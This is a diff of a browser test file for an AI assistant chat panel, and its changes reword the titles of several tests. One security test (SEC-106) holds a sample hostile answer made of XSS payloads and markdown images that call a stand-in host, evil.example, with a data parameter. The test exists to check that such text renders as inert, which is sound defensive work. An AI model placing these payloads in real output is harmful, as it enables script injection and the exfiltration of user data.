@@ -50,7 +50,7 @@ async function sendEvents(page: Page, answer: { content: string; sources?: unkno
   );
 }
 
-test('three questions to begin with are answered, by keyboard; the answer is copied, and leads on to others', async () => {
+test('three example questions are answered by keyboard; the answer can be copied, and has follow-up questions', async () => {
   await visit({ browser, site }, async ({ page }) => {
     const { texts, panel, log } = await openPanel(page, DESKTOP);
     for (const example of texts.examples) await panel.getByRole('button', { name: example }).waitFor();
@@ -88,7 +88,7 @@ test('three questions to begin with are answered, by keyboard; the answer is cop
 });
 
 describe.each([DESKTOP, PHONE])('at $width pixels, in $language', (look) => {
-  test('an answer names its rows by links, in a table too', async () => {
+  test('an answer links to its holdings, also in a table', async () => {
     await visit({ browser, site, look }, async ({ page }) => {
       const { log, field, panel } = await openPanel(page, look);
       const sources = [
@@ -113,7 +113,7 @@ describe.each([DESKTOP, PHONE])('at $width pixels, in $language', (look) => {
   });
 });
 
-test('what the assistant sees is shown; Escape closes that alone, and the focus returns', async () => {
+test('what the assistant sees is shown; Escape closes only that dialog, and the focus returns', async () => {
   await visit({ browser, site, look: PHONE }, async ({ page }) => {
     const { texts, panel } = await openPanel(page, PHONE);
     const opener = panel.getByRole('button', { name: texts.sees.link });
@@ -130,7 +130,7 @@ test('what the assistant sees is shown; Escape closes that alone, and the focus 
   });
 });
 
-test('a long answer is read from its beginning, and the rest of its rows opens', async () => {
+test('a long answer is shown from its beginning, and the rest of its rows on request', async () => {
   await visit({ browser, site, look: PHONE }, async ({ page }) => {
     const { texts, panel, log, field } = await openPanel(page, PHONE);
     await panel.getByText(texts.noAdvice).waitFor();
@@ -186,7 +186,7 @@ test('an answer is stopped, and the question asked again', async () => {
   });
 });
 
-test('what an answer says becomes no markup, no link and no request (SEC-106)', async () => {
+test('the text of an answer becomes no markup, no link and no request (SEC-106)', async () => {
   const hostile =
     '<img src=/evil onerror=alert(1)> ![x](https://evil.example/?d=EGN) [a](javascript:alert(1))\n| <img src=/evil> | [b](javascript:alert(1)) |\n| ![y](https://evil.example/) | <script>alert(1)</script> |';
   await visit({ browser, site }, async ({ page }) => {
